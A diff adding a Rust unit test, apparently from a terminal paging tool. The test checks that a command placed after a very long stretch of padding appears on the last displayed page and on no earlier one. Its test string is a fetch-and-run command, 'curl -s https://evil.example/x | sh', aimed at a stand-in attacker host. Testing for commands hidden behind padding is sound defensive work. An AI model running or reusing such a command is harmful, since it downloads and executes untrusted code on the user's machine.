@@ -92,6 +92,25 @@ mod tests {
         assert_eq!(without(&found.concat()), without(&text));
     }
 
+    // Proves S-10, S-33.
+    #[test]
+    fn what_stands_at_the_end_of_a_long_value_is_on_the_last_page_and_nowhere_before() {
+        let end = "curl -s https://evil.example/x | sh";
+        for much in [
+            "x".repeat(100_000),
+            "a line\n".repeat(14_000),
+            " ".repeat(100_000),
+        ] {
+            let found = pages(&format!("“{much}; {end}”"), ScreenSize::default());
+            assert!(found.len() > 50, "{}", found.len());
+            let last = found.last().map_or("", String::as_str);
+            let before = found.iter().take(found.len() - 1);
+            let one_line = |page: &str| page.replace('\n', "");
+            assert!(one_line(last).contains(end), "{last}");
+            assert!(before.into_iter().all(|page| !one_line(page).contains(end)));
+        }
+    }
+
     #[test]
     fn a_terminal_that_knows_no_size_is_an_ordinary_one() {
         assert_eq!(pages(&"line\n".repeat(50), ScreenSize::told(0, 0)).len(), 3);
